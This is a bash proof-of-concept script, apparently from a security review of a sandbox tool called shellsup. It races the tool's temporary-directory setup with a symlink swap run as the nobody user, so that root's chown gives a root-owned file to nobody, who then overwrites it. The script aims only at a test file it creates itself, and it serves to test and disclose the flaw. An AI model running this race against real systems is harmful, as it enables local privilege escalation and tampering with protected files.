#!/bin/bash
# Review 3: the private TMPDIR is made with os.MkdirTemp under shellsup's
# own TMPDIR and then given to the --user user with os.Chown(path), which
# follows a link (sandbox/tmpdir_linux.go MakeTmp). Where shellsup's TMPDIR
# is a directory the --user user may write (here a nobody-owned directory;
# e.g. a harness that points TMPDIR into the sandbox user's workspace), a
# process of that user outside the run renames the fresh directory and puts
# a link to a root-owned file in its place: root chowns the file to nobody.
# The victim is a file the reviewer made. Needs root.
# Usage: tmpdir-chown-race.sh [tries]
set -u
TRIES=${1:-300}
SHELLSUP=${SHELLSUP:-$(cd "$(dirname "$0")/../.." && pwd)/bin/shellsup}
[ "$(id -u)" = 0 ] || { echo "needs root"; exit 2; }
D=$(mktemp -d /tmp/rv3-chown.XXXXXX); chmod 755 "$D"
mkdir "$D/shared" "$D/root"; chown nobody:nogroup "$D/shared"; chmod 755 "$D/shared"
echo 'root:secret-hash:...' > "$D/root/victim"; chmod 600 "$D/root/victim"; chmod 755 "$D/root"
cat > "$D/swap.py" <<'PY'
import os, sys, time
shared, victim, end = sys.argv[1], sys.argv[2], time.time() + float(sys.argv[3])
done = set()
while time.time() < end:
    try:
        names = os.listdir(shared)
    except OSError:
        continue
    for n in names:
        if n.startswith("shellsup-tmp-") and "." not in n and n not in done:
            done.add(n)
            try:
                os.rename(os.path.join(shared, n), os.path.join(shared, n + ".moved"))
                os.symlink(victim, os.path.join(shared, n))
            except OSError:
                pass
PY
cleanup() { [ -n "${APID:-}" ] && kill "$APID" 2>/dev/null; wait 2>/dev/null; rm -rf "$D"; }
trap cleanup EXIT
timeout 200 setpriv --reuid nobody --regid nogroup --clear-groups /usr/bin/python3 "$D/swap.py" "$D/shared" "$D/root/victim" 180 &
APID=$!
sleep 0.3
for i in $(seq "$TRIES"); do
  TMPDIR=$D/shared HOME=/tmp timeout 20 "$SHELLSUP" --no-login --quiet --user nobody --cwd /tmp --sandbox read-only -- true >/dev/null 2>&1
  [ "$(stat -c %U "$D/root/victim")" = nobody ] && break
done
kill "$APID" 2>/dev/null; wait "$APID" 2>/dev/null; APID=
echo "after $i runs: $(stat -c '%U:%G %a %n' "$D/root/victim")"
if [ "$(stat -c %U "$D/root/victim")" = nobody ]; then
  setpriv --reuid nobody --regid nogroup --clear-groups sh -c "echo 'root::0:0:owned by nobody' > $D/root/victim" && echo "nobody rewrote it: $(cat "$D/root/victim")"
  echo BROKEN; exit 1
fi
echo held; exit 0
